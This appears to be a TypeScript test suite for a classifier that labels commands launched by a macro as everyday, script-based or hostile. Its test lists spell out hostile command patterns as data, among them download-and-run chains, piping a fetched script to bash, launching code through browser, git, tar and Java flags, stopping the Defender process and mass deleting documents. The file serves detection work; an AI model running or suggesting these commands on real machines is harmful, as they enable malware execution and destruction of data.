import assert from 'node:assert/strict'
import { test } from 'node:test'
import { assess, COMMAND_MAX } from './assess.ts'
import type { Written } from './written.ts'

const assessed = (command: string, written: readonly Written[] = []) => assess(command, { by: 'macro', written })

const EVERYDAY = [
  'xcopy "\ufffd" "D:\\Backup\\" /Y',
  'robocopy C:\\Finance \\\\nas01\\backup /MIR',
  'cmd /c net use X: \\\\fileserver\\finance /persistent:no',
  'cmd /c cd /d "\ufffd" && git add . && git commit -m auto',
  'cmd.exe /c "copy C:\\a.csv D:\\b.csv"',
  '%comspec% /c dir C:\\Data > C:\\Data\\list.txt',
  'cmd /c if not exist D:\\Backup md D:\\Backup',
  'cmd /c del C:\\Data\\old.csv',
  'taskkill /im AcroRd32.exe /f',
  'C:\\ERP\\client.exe /export',
  '"C:\\Program Files\\7-Zip\\7z.exe" a D:\\b.zip C:\\Finance',
  'C:\\Windows\\System32\\mstsc.exe /v:server01',
  'python "\ufffd\\model.py"',
  'notepad.exe \ufffd\\readme.txt',
  'chrome.exe https://www.example.com/manual',
  'cmd /c start "" "C:\\Data\\manual.pdf"',
  'curl -s -o "C:\\Data\\rates.json" https://api.example.com/latest',
  'rundll32 printui.dll,PrintUIEntry /y /n "Office"',
  'git -C "\ufffd" log --oneline -n 20',
  '"C:\\Program Files\\R\\R-4.3.1\\bin\\Rscript.exe" model.R input.csv',
  'C:\\Program Files\\Git\\git-bash.exe --cd="\ufffd\\src\\"',
  'msedge --kiosk https://www.example.com',
  'chrome http://intranet/help',
  'soffice --headless --convert-to pdf --outdir C:\\out C:\\a.docx',
  'msaccess.exe "C:\\App\\front.accdb" /x Start',
  'outlook.exe /c ipm.note /m a@example.com',
  'sqlcmd -S server01 -Q "SELECT * FROM t" -o C:\\x.csv',
  'java -Xmx512m -jar C:\\App\\tool.jar in.csv',
  'C:\\Python39\\python.exe -u D:\\models\\run.py --date 2024-01-01',
  'cmd /c Rscript C:\\x\\m.r > C:\\x\\log.txt 2>&1',
  'cmd /c copy \\\\server\\apps\\client.exe C:\\App\\client.exe',
  'cmd /c attrib +r C:\\x.csv',
  'cmd /c echo y | del C:\\x.csv',
  'C:\\ERP\\start.exe /x',
  'cmd /c start cmd /c "dir & git status"',
  '7z x -so %temp%\\a.7z',
]
const SCRIPTS = [
  'powershell -NoProfile -ExecutionPolicy Bypass -File "\\\\server\\scripts\\export.ps1"',
  'cscript //nologo C:\\Scripts\\map.vbs',
  '\\\\server\\apps\\client.exe',
  // Installed for one user.
  '%localappdata%\\Microsoft\\Teams\\current\\Teams.exe',
  '%localappdata%\\Google\\Chrome\\Application\\chrome.exe https://www.example.com',
  '"C:\\Users\\me\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" .',
  'C:\\ProgramData\\Anaconda3\\python.exe C:\\Users\\me\\project\\run.py',
  'cmd /k ""C:\\ProgramData\\Anaconda3\\Scripts\\activate.bat" & python C:\\Users\\me\\project\\run.py"',
  // Their effects are not known.
  `cmd.exe /C "pythonw.exe -B -c "import sys, os;sys.path[0:0]=os.path.normcase(r'\ufffd').split(';');import a;a.main()""`,
  'hh.exe \ufffd\\help.chm',
  'python -c "import os"',
  'ftp -n -s:\ufffd\\ftp.txt',
  'git clone git@example.com:x/y C:\\y',
  'C:\\a.exe',
  'C:\\ERP\\client.exe https://example.com/a',
  'winword.exe /lC:\\a\\b',
  'cmd /c cd %temp% & python a.py',
  'attrib +h C:\\Data\\a.exe',
  'python \\\\server\\scripts\\a.py',
  'git log --output=C:\\x\\a.bat',
  'pdftk a.pdf cat output C:\\x\\a.exe',
  'bcp db.t out C:\\Data\\a.exe -c -T',
  'move C:\\Data\\a.dll "C:\\Program Files\\App\\version.dll"',
  '"C:\\Program Files\\AutoHotkey\\AutoHotkey.exe" C:\\Data\\a.ahk',
  '"C:\\Program Files\\App\\host.exe" C:\\Data\\a.js',
  'curl https://example.com/a.txt -o C:\\x.txt -K C:\\y',
  'chrome --app=http://203.0.113.7/a',
  'iexplore C:\\x\\a.hta',
  // Copies of the company's programs, and copies to a server with a name.
  'cmd /c copy \\\\server\\apps\\client.exe C:\\App\\ & C:\\App\\client.exe',
  'cmd /c net use Z: \\\\server\\apps & Z:\\a.exe',
  'cmd /c robocopy C:\\Data \\\\fs01.example.com\\backup /mir',
]
const HOSTILE = [
  'cmd /c curl -s https://example.com/a -o C:\\Data\\a.txt & ren C:\\Data\\a.txt a.exe & C:\\Data\\a.exe',
  'cmd /c curl -s https://example.com/a -o C:\\Data\\a.png & move C:\\Data\\a.png C:\\Data\\a.exe & start C:\\Data\\a.exe',
  'cmd /c curl -s https://example.com/a -o C:\\Data\\a.txt & python C:\\Data\\a.txt',
  'cmd /c curl -s https://example.com/a -o C:\\Data\\a.txt & tar -xf C:\\Data\\a.txt -C C:\\Data & C:\\Data\\b.exe',
  'cmd /c copy C:\\Windows\\System32\\cert*.exe C:\\Data\\x.exe',
  'cmd /c copy D:\\x\\ms?ta.exe C:\\Data\\x.exe',
  'cmd /c copy C:\\Data\\a.dat C:\\Data\\x.exe',
  'cmd /c type C:\\Data\\a.txt > C:\\Data\\b.txt:c.exe',
  'cmd /c echo calc.exe > C:\\Data\\a.bat & C:\\Data\\a.bat',
  'cmd /c echo calc.exe> "C:\\Data\\a" & call C:\\Data\\a',
  'cmd /c type C:\\Data\\a.txt | python',
  'cmd /c echo x | powershell -',
  'cmd /c git clone git@example.com:x/y C:\\y & C:\\y\\a.exe',
  'cmd /c sftp user@example.com:/a.exe C:\\Tools\\a.exe & C:\\Tools\\a.exe',
  'cmd /c subst Z: C:\\Users\\Public & Z:\\a.exe',
  '"C:\\Program Files\\Git\\bin\\bash.exe" -c "curl -s https://example.com/a | bash"',
  `"C:\\Program Files\\Python311\\python.exe" -c "exec(open('a').read())"`,
  'C:\\Python311\\python.exe -Iuc "import urllib.request"',
  `python -u -c "exec(bytes.fromhex('00'))#.py"`,
  `node --print "require('child_process').exec('calc')//.js"`,
  'rscript -e system(1)',
  'matlab -r "system(1)"',
  'mysql -e "\\! calc.exe"',
  'sftp -o ProxyCommand="calc.exe" a@b',
  'tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=calc.exe x',
  'git -c core.sshCommand=calc.exe fetch',
  'chrome.exe --gpu-launcher="calc.exe" --no-sandbox',
  'chrome.exe --renderer-cmd-prefix=calc.exe',
  'soffice macro:///a.b.c',
  'excel.exe /r C:\\a\\b.xll',
  'winword.exe /l%temp%\\a.wll',
  'code.exe tunnel --name x',
  'java -XX:OnOutOfMemoryError=calc.exe -jar C:\\a\\b.jar',
]
const OTHERS = [
  '',
  '\ufffd',
  'calc.exe',
  'cmd /c calc.exe',
  'cmd /c x',
  'cmd /c echo inert',
  'notepad.exe',
  'explorer.exe http://www.example.com',
  'explorer C:\\Users\\Public\\a.hta',
  'xcopy a.vbs "%appdata%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"',
  'robocopy C:\\Finance \\\\203.0.113.7\\a /MIR',
  'cmd /c copy \\\\files.example/a/b.csv C:\\b.csv',
  'notepad.exe \\/files.example/a/b.txt',
  'cmd /c copy \\\\host.example.net@80\\a\\b.exe C:\\b.exe',
  'cmd /c copy C:\\Windows\\System32\\mshta.exe C:\\a.exe && C:\\a.exe',
  'cmd /c dir & %temp%\\a.exe',
  'cmd /c d^i^r',
  'cmd /c del /s /q C:\\Users\\*.docx',
  'cmd /c del C:\\Data\\*.*',
  'taskkill /f /im MsMpEng.exe',
  'powershell -w hidden -File C:\\Scripts\\a.ps1',
  'powershell -c ls',
  'wscript %temp%\\a.vbs',
  '%temp%\\a.exe',
  'C:\\Users\\Public\\a.exe',
  'curl -o C:\\a.exe https://example.com/a.exe',
  'curl -o C:\\a.json http://203.0.113.7/a',
  'rundll32 C:\\a.dll,Start',
  'rundll32 printui.dll,PrintUIEntry /ia /f C:\\a.inf',
  '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -c ls',
  '"C:\\Program Files\\..\\Tools\\a.exe"',
  'C:\\PerfLogs\\a.exe',
  'C:\\$Recycle.Bin\\a.exe',
  'C:\\Data\\a.lnk',
  'C:\\Data\\a*.exe',
  'C:\\Windows\\Tasks\\python.exe C:\\x\\a.py',
  '%localappdata%\\Temp\\a.exe',
  'explorer C:\\Data\\a.exe',
  'cmd /c calc/copy',
  'explorer /root,C:\\x\\a.exe',
  'C:\\Data\\rundll32.exe a.dll,b',
  'del C:\\Windows\\System32\\a.dll',
  'cmd /c start cmd /c "dir & calc"',
  'hh.exe %temp%\\a.chm',
  'python %temp%\\a.py',
  'cmd /c robocopy C:\\Users\\me\\Documents \\\\fs01.example.com\\backup',
  'cmd /c robocopy C:\\Data \\\\fs01.example.com@80\\backup',
]

test('tools with readable arguments are everyday', () => {
  for (const command of EVERYDAY) assert.equal(assessed(command), 'ordinary', command)
})
test('longer commands are not', () => {
  const copy = (length: number): string => `xcopy ${'a'.repeat(length - 8)} b`
  assert.equal(assessed(copy(COMMAND_MAX)), 'ordinary')
  assert.equal(assessed(copy(COMMAND_MAX + 1)), null)
})
test('scripts in files are scripts', () => {
  for (const command of SCRIPTS) assert.equal(assessed(command), 'script', command)
})
test('commands that run code or what they write are hostile', () => {
  for (const command of HOSTILE) assert.equal(assessed(command), 'hostile', command)
})
test('a file that the macro writes elsewhere is not started every day', () => {
  const start = (isForeign: boolean, path = 'c:\\erp\\client.exe') =>
    assessed('C:\\ERP\\client.exe /export', [{ path, isForeign }])
  assert.equal(start(true), 'hostile')
  assert.equal(start(false), 'script')
  assert.equal(start(true, 'c:\\erp\\'), 'hostile')
  assert.equal(start(true, 'c:\\erp\\export.csv'), 'ordinary')
})
test('other commands are none of these', () => {
  for (const command of OTHERS) assert.equal(assessed(command), null, command)
})
